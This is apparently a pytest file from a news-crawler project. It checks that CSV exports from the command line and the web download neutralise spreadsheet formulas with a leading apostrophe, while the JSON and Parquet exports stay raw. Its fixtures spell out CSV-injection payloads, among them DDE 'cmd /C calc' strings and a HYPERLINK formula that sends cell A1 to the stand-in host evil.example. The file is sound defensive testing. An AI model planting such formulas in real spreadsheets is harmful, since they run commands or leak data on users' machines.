"""CSV exports neutralise spreadsheet formulas (OWASP "CSV Injection"): a text cell starting
with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading apostrophe — in the
CLI's ``export`` and ``search --format csv`` and in the web UI's download, all through
``csv_cells``. JSON lines, JSON and Parquet keep the text exactly as scraped."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

from kn_crawl.cli import main
from kn_crawl.db.engine import make_engine
from kn_crawl.db.migrate import upgrade
from kn_crawl.db.store import ArticleStore, ensure_source
from kn_crawl.search.export import csv_cell, csv_safe
from kn_crawl.web import create_app
from tests.test_search import article

CASES = {
    "equals": ("=HYPERLINK(\"http://evil.example\",\"klick\")", "'=HYPERLINK(\"http://evil.example\",\"klick\")"),
    "plus": ("+49 231 50-0", "'+49 231 50-0"),
    "minus": ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    "at": ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    "tab": ("\t=1+1", "'\t=1+1"),
    "carriage-return": ("\r=1+1", "'\r=1+1"),
    "plain": ("Dortmund eröffnet Bürgerbüro", "Dortmund eröffnet Bürgerbüro"),
    "formula-later": ("OZG = Onlinezugangsgesetz", "OZG = Onlinezugangsgesetz"),
    "leading-space": (" =1+1", " =1+1"),
    "apostrophe": ("'=1", "'=1"),
    "empty": ("", ""),
}  # fmt: skip


@pytest.mark.parametrize(("text", "cell"), CASES.values(), ids=CASES.keys())
def test_csv_safe(text: str, cell: str) -> None:
    assert csv_safe(text) == cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (["=A1", "OZG"], "'=A1; OZG"),
        (["OZG", "=A1"], "OZG; =A1"),
        (datetime(2025, 1, 2, 3, 4, tzinfo=UTC), "2025-01-02T03:04:00+00:00"),
        (-5, -5),
        (None, None),
    ],
)
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


EVIL = {
    "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Mehr\")",
    "kicker": "@SUM(1+1)",
    "teaser": "-1+1",
    "section": "+Verwaltung",
    "tags": ["=cmd|' /C calc'!A0", "OZG"],
    "body": "\t=1+1",
}  # fmt: skip
NEUTRAL = {
    "title": "'" + EVIL["title"],
    "kicker": "'@SUM(1+1)",
    "teaser": "'-1+1",
    "section": "'+Verwaltung",
    "tags": "'=cmd|' /C calc'!A0; OZG",
    "body": "'\t=1+1",
}


@pytest.fixture(scope="module")
def evil_db(tmp_path_factory: pytest.TempPathFactory) -> str:
    url = f"sqlite:///{tmp_path_factory.mktemp('csv') / 'kn.sqlite3'}"
    engine = make_engine(url)
    upgrade(engine)
    with engine.begin() as conn:
        sid = ensure_source(
            conn, name="kommune21", family="k21", title="K21", base_url="https://x/"
        )
    fields = {k: v for k, v in EVIL.items() if k != "title"}
    item = article("formel", EVIL["title"], **fields)
    ArticleStore(engine).save(sid, "kommune21", [item], now=datetime(2025, 1, 1, tzinfo=UTC))
    engine.dispose()
    return url


def cli(db: str, *args: str) -> str:
    result = CliRunner().invoke(main, list(args), env={"KN_DATABASE_URL": db})
    assert result.exit_code == 0, result.output
    return result.stdout


def only_row(text: str) -> dict[str, str]:
    (row,) = list(csv.DictReader(io.StringIO(text)))
    return row


def test_cli_export_csv_is_neutralised(evil_db: str, tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    cli(evil_db, "export", "--format", "csv", "--output", str(out))
    row = only_row(out.read_text(encoding="utf-8"))
    assert {k: row[k] for k in NEUTRAL} == NEUTRAL
    assert row["source"] == "kommune21" and row["url"] == "https://kommune21.example/formel/"


def test_cli_search_csv_is_neutralised(evil_db: str) -> None:
    row = only_row(cli(evil_db, "search", "Mehr", "--format", "csv"))
    assert row["title"] == NEUTRAL["title"]
    assert row["kicker"] == NEUTRAL["kicker"]
    assert row["section"] == NEUTRAL["section"]
    assert row["tags"] == NEUTRAL["tags"]


def test_web_csv_download_is_neutralised(evil_db: str) -> None:
    app = create_app(evil_db)
    try:
        body = app.test_client().get("/export.csv?alle=1").get_data(as_text=True)
        json_body = app.test_client().get("/export.json").get_json()
    finally:
        app.config["KN_ENGINE"].dispose()
    row = only_row(body)
    assert {k: row[k] for k in NEUTRAL} == NEUTRAL
    assert {k: json_body[0][k] for k in EVIL} == EVIL


def test_jsonl_and_parquet_stay_raw(evil_db: str, tmp_path: Path) -> None:
    out = tmp_path / "x.jsonl"
    cli(evil_db, "export", "--format", "jsonl", "--output", str(out))
    row = json.loads(out.read_text(encoding="utf-8"))
    assert {k: row[k] for k in EVIL} == EVIL
    pq = pytest.importorskip("pyarrow.parquet")
    cli(evil_db, "export", "--format", "parquet", "--output", str(tmp_path / "x.parquet"))
    (prow,) = pq.read_table(tmp_path / "x.parquet").to_pylist()
    assert {k: prow[k] for k in EVIL} == EVIL
